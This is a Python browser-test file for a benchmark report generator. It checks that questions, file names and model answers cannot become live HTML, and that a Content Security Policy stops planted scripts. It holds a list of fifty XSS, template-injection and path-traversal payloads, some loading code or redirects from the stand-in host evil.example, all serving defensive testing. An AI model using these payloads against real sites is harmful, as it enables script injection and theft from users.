"""Nothing in a question, a file name or a model's answer can become markup, in a real browser."""

from __future__ import annotations

from collections import Counter
from dataclasses import replace
from pathlib import Path
from typing import TYPE_CHECKING

import msgspec
import pytest

from fathom.pages.html import visible
from fathom.pages.tables import Table
from fathom.records import Benchmark, PublishedTable, Step
from fathom.reporting.data import ReportData
from tests.reporting.conftest import Visitor
from tests.reporting.synthetic import BENCHMARK, report_data, report_html

if TYPE_CHECKING:
    from playwright.sync_api import Page

PAYLOADS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</ScRiPt ><ScRiPt>alert(1)</sCrIpT>",
    "<script src=https://evil.example/x.js></script>",
    "<script\x0btype=module>alert(1)</script>",
    "<!--<script>",
    "--><script>alert(1)</script><!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)//",
    "\"><img src=x onerror=alert(1)>",
    "' onmouseover='alert(1)",
    "\" onfocus=\"alert(1)\" autofocus=\"",
    "` onclick=`alert(1)",
    "x style=animation-name:x onanimationstart=alert(1)",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'/>#x\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
    "<embed src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<input autofocus onfocus=alert(1)>",
    "<form action=javascript:alert(1)><button>go</button></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>*{background:url(https://evil.example/x)}</style>",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</noscript><script>alert(1)</script>",
    "javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "{{ 7*7 }}{% raw %}${7*7}#{7*7}<%= 7*7 %>",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "&lt;script&gt;alert(1)&lt;/script&gt;&#x3c;img src=x onerror=alert(1)&#62;",
    "\u2028alert(1)\u2029//\x00<scr\x00ipt>alert(1)</script>",
    "\u202etpircs\u202c \u2066<b>\u2069 \ufeff＜script＞alert(1)＜/script＞",
    "__proto__",
    "../../../etc/passwd\"><script>alert(1)</script>.png",
    "@import 'https://evil.example/x.css'; expression(alert(1)); url(javascript:alert(1))",
)  # fmt: skip
A_PAGE = 10
SHAPE = """() => [...document.querySelectorAll('.row')].flatMap((row) => {
  row.click();
  for (const details of document.querySelectorAll('.answers details')) details.open = true;
  return [...document.querySelectorAll('*')].flatMap(
    (e) => [e.tagName, ...[...e.attributes].map((a) => `${e.tagName} ${a.name}`)]);
})"""


TEXTS = """() => [...document.querySelectorAll('.row')].map((row, i) => {
  row.click();
  const item = row.closest('li');
  const of = (selector, root = item, which = 0) => root.querySelectorAll(selector)[which].textContent;
  return {
    text: of('.text'), answer: of('.answer'), steps: of('.steps'), margin: of('.gauge-words'),
    picked: of('.picked', item, i), written: of('pre', item, i), facts: of('.more'),
    model: of('#board tbody:first-of-type th .given:first-child', document, i),
    caption: of('.caption .given', item.closest('article')),
    lit: [...document.querySelectorAll('[data-object].on')].map((e) => e.dataset.object),
  };
})"""


def poisoned(words: tuple[str, ...]) -> ReportData:
    """Return a report in which the k-th scene, question, model … carries the k-th of `words` everywhere."""
    data = report_data(scenes=1, a_task=2, objects=3)
    scene = next(iter(data.dataset.scenes.values()))
    n = len(words)
    questions = [
        msgspec.structs.replace(
            q,
            id=f"{i}{words[i]}",
            text=words[i],
            answer=words[i],
            possible=(words[i], "other"),
            media=(words[i],),
            scene=words[i],
            task=words[i],
            program=(Step(op=words[i], args=(words[i],)), *q.program[1:]),
            margin=q.margin
            and msgspec.structs.replace(q.margin, relation=words[i], unit=words[i], between=(words[i],)),
            evidence=q.evidence
            and msgspec.structs.replace(
                q.evidence, objects=(words[i],), steps=((words[i],),) * len(q.program)
            ),
            tags={"asks": "color", words[i]: words[i]},
        )
        for i, q in enumerate(data.dataset.questions[:n])
    ]
    picture = data.dataset.picture(f"{scene.id}-0")
    outline = data.dataset.outlines[0]
    media = next(iter(data.dataset.media.values()))
    first = data.runs[0]
    response, sample_score = next(iter(first.responses.values())), first.sample_scores[0]
    runs = [
        replace(
            first,
            model=word,
            manifest=msgspec.structs.replace(first.manifest, settings={word: word}),
            sample_scores=[
                msgspec.structs.replace(
                    sample_score, question=q.id, task=q.task, picked=word, how=word, extractor=word, value=0.0
                )
                for q in questions
            ],
            scores=[msgspec.structs.replace(s, group=dict.fromkeys(s.group, word)) for s in first.scores],
            responses={
                q.id: msgspec.structs.replace(response, question=q.id, text=word, error=word)
                for q in questions
            },
        )
        for word in words
    ]
    manifest = msgspec.structs.replace(
        data.dataset.manifest,
        name=words[0],
        seed=words[1],
        command=words[2],
        notes=words,
        settings={"rules": words[3]},
    )
    dataset = replace(
        data.dataset,
        manifest=manifest,
        questions=questions,
        picture=lambda media_id: picture,
        media={
            w: msgspec.structs.replace(media, id=w, path=f"media/{w}", scene=w) for w in words
        },
        scenes={
            w: msgspec.structs.replace(
                scene,
                id=w,
                objects=tuple(
                    msgspec.structs.replace(t, id=w, subtype=w, attributes={"color": w})
                    for t in scene.objects
                ),
            )
            for w in words
        },
        outlines=[msgspec.structs.replace(outline, scene=w, object_id=w) for w in words],
        checks=[Table(w, (w, w), ((w, w),), (w,)) for w in words],
    )  # fmt: skip
    table = PublishedTable(
        name=words[0], title=words[0], columns=words, rows=dict.fromkeys(words, (1.0,) * n)
    )
    benchmark = Benchmark(
        **{
            f: getattr(BENCHMARK, f)
            for f in ("name", "version", "protocols", "extractors", "default_extractor")
        },
        title=words[4],
        paper=words[5],
        tasks={w: w for w in words},
        tables=(table,),
    )
    return ReportData(benchmark, dataset, runs)


def shape_of(page: Page) -> Counter[str]:
    """Return how often each element and each of its attributes occurs, summed over every question opened."""
    return Counter(page.evaluate(SHAPE))


@pytest.fixture(scope="module")
def harmless(visitor: Visitor, tmp_path_factory: pytest.TempPathFactory) -> Counter[str]:
    """The shape of a page in which all words are harmless."""
    words = tuple(f"harmless {i}" for i in range(A_PAGE))
    path = tmp_path_factory.mktemp("harmless") / "report.html"
    path.write_text(report_html(poisoned(words)), encoding="utf-8")
    with visitor.visit() as visit:
        return shape_of(visit.open(path))


def test_there_are_fifty_payloads() -> None:
    assert len(PAYLOADS) == len(set(PAYLOADS)) == 50


@pytest.mark.parametrize("start", range(0, len(PAYLOADS), A_PAGE))
def test_payloads_stay_text(visitor: Visitor, harmless: Counter[str], tmp_path: Path, start: int) -> None:
    words = PAYLOADS[start : start + A_PAGE]
    path = tmp_path / "report.html"
    path.write_text(report_html(poisoned(words)), encoding="utf-8")
    with visitor.visit() as visit:
        page = visit.open(path)
        assert shape_of(page) == harmless
        page.keyboard.press("Escape")
        for i, (word, found) in enumerate(zip(words, page.evaluate(TEXTS), strict=True)):
            expected = visible(word).strip()
            for place in ("text", "answer", "picked", "model", "caption"):
                assert found[place].strip() == expected, place
            for place in ("written", "steps", "margin", "facts"):
                assert expected in found[place], place
            assert found["lit"] == [visible(word)], i
        assert visit.complaints == []
        assert visit.fetched() == []
        assert page.title() == f"{' '.join(visible(words[4]).split())} – report"


def test_an_injected_script_would_be_stopped_by_the_policy(
    visitor: Visitor, report_page: Path, tmp_path: Path
) -> None:
    planted = tmp_path / "planted.html"
    planted.write_text(
        report_page.read_text().replace("</main>", "<script>window.planted = 1</script></main>")
    )
    with visitor.visit() as visit:
        page = visit.open(planted)
        assert page.evaluate("window.planted") is None
        assert any("Content Security Policy" in c for c in visit.complaints)
